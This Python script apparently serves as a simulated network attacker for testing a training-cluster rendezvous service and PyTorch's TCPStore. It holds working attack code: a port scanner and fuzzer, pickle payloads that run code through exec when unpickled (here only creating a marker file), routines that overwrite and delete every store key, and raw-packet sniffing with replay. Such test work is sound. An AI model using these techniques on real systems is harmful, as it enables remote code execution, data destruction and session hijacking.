"""Somebody in the training hosts' network who does not know the run's secret. Prints what it found as JSON lines.

    stranger.py attack MARK ADDRESS...     sends everything it can think of to every port of the hosts, over and over
    stranger.py store MARK HOST PORT       writes to torch's store there, and deletes what it finds
    stranger.py listen PORT                reads what the first connection from here to that port says
    stranger.py replay HOST PORT HEX       repeats it

MARK is the file that would exist if anybody unpickled what it sends.
"""

import contextlib
import errno
import json
import os
import pickle
import select
import socket
import struct
import sys
from concurrent.futures import ThreadPoolExecutor

_BATCH = 512  # ports that are tried at once
_ANSWER_S = 0.3
_SEGMENTS = 6  # of a conversation with the rendezvous: a random number, then reports
_GREETING = b"shardproof rendezvous 1\n"


class _Bomb:
    """Unpickling it creates the mark."""

    def __init__(self, mark):
        self.mark = mark

    def __reduce__(self):
        return (exec, (f"open({self.mark!r}, 'w').close()",))


def open_ports(address):
    """All TCP ports of a host that accept a connection."""
    found = []
    for first in range(1, 65536, _BATCH):
        tried = {}
        for port in range(first, min(first + _BATCH, 65536)):
            connection = socket.socket()
            connection.setblocking(False)
            if connection.connect_ex((address, port)) in (0, errno.EINPROGRESS):
                tried[connection.fileno()] = connection, port
            else:
                connection.close()
        poll = select.poll()
        for number in tried:
            poll.register(number, select.POLLOUT)
        while tried:
            ready = poll.poll(1000)
            if not ready:
                break
            for number, _ in ready:
                connection, port = tried.pop(number)
                poll.unregister(number)
                if connection.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                    found.append(port)
                connection.close()
        for connection, _ in tried.values():
            connection.close()
    return found


def messages(bomb):
    """What is sent, each over a connection of its own."""
    nonce = os.urandom(16)
    frame = struct.pack("!I", len(bomb)) + b"\0" * 32 + bomb
    # torch's store: a client says 0 and a magic number, then its queries.
    hello = b"\0" + struct.pack("<I", 0x3C85F7CE)
    key = struct.pack("<Q", 4) + b"/bad"
    return [
        b"",
        os.urandom(1 << 16),
        bomb,
        struct.pack("<Q", len(bomb)) + bomb,
        b"GET / HTTP/1.1\r\nHost: a\r\n\r\n",
        b"\0" * 4096,
        b"\xff" * 4096,
        b"\x01",  # a truncated number
        nonce + frame,  # the rendezvous: unsigned
        nonce + frame[: len(frame) // 2],  # truncated
        nonce + b"\xff\xff\xff\xff" + b"\0" * 64,  # a huge length
        nonce + struct.pack("!I", 0),
        hello + b"\x01" + key[:6],  # the store: a truncated key
        hello + b"\x01" + struct.pack("<Q", 1 << 62) + b"x" * 64,  # a huge one
        hello + b"\x01" + key + struct.pack("<Q", len(bomb)) + bomb,
        *(
            hello + bytes([query]) + struct.pack("<Q", 1 << 60) * 3 for query in range(2, 16)
        ),  # and of the others
        hello + b"\xee" * 64,  # queries that there are none of
    ]


def send(address, port, message):
    """Send a message and wait for an answer for a moment."""
    with contextlib.suppress(OSError), socket.create_connection((address, port), 2) as connection:
        connection.settimeout(_ANSWER_S)
        connection.sendall(message)
        while connection.recv(4096):
            pass


def attack(mark, *addresses):
    bomb, silent = pickle.dumps(_Bomb(mark)), []
    while True:
        found = {address: open_ports(address) for address in addresses}
        with ThreadPoolExecutor(32) as pool:
            for address, ports in found.items():
                for port in ports:
                    for message in messages(bomb):
                        pool.submit(send, address, port, message)
                    with contextlib.suppress(OSError):  # and one that neither says anything nor hangs up
                        silent.append(socket.create_connection((address, port), 2))
        say(open=found)


def write_to_store(mark, host, port):
    """What torch's store lets anybody do who reaches it."""
    from datetime import timedelta

    import torch.distributed as dist

    patience = timedelta(seconds=60)
    store = dist.TCPStore(host, int(port), is_master=False, wait_for_workers=False, timeout=patience)
    bomb = pickle.dumps(_Bomb(mark))
    keys = store.list_keys()
    for key in keys:
        store.set(key, bomb)
    say(keys=keys)
    for key in keys:
        store.delete_key(key)
    for number in range(100):
        store.set(f"stranger/{number}", os.urandom(1 << 16))
    say(left=store.num_keys())


def listen(port):
    """As somebody would who can read the network: the bytes in the order in which they were sent."""
    tap = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))  # every protocol
    tap.bind(("eth0", 0))
    say(listening=True)
    streams = {}
    while True:
        packet = tap.recv(1 << 16)
        tcp = packet[(packet[0] & 15) * 4 : struct.unpack("!H", packet[2:4])[0]]
        if packet[0] >> 4 != 4 or packet[9] != socket.IPPROTO_TCP:
            continue
        source, target, sequence = struct.unpack("!HHI", tcp[:8])
        if target == int(port) and (said := tcp[(tcp[12] >> 4) * 4 :]):
            stream = streams.setdefault(source, {})
            stream[sequence] = said
            if len(stream) == _SEGMENTS:
                say(said=b"".join(stream[each] for each in sorted(stream)).hex())
                return


def replay(host, port, said):
    """The answer is what a stranger learns."""
    with socket.create_connection((host, int(port)), 60) as connection:
        connection.settimeout(60)
        answer = b""
        while len(answer) < len(_GREETING) + 16:
            answer += connection.recv(4096)
        connection.sendall(bytes.fromhex(said))
        answer = b""
        with contextlib.suppress(ConnectionResetError):
            while part := connection.recv(4096):
                answer += part
    say(answer=answer.hex())


def say(**what):
    print(json.dumps(what), flush=True)


_WAYS = {"attack": attack, "store": write_to_store, "listen": listen, "replay": replay}

if __name__ == "__main__":
    _WAYS[sys.argv[1]](*sys.argv[2:])
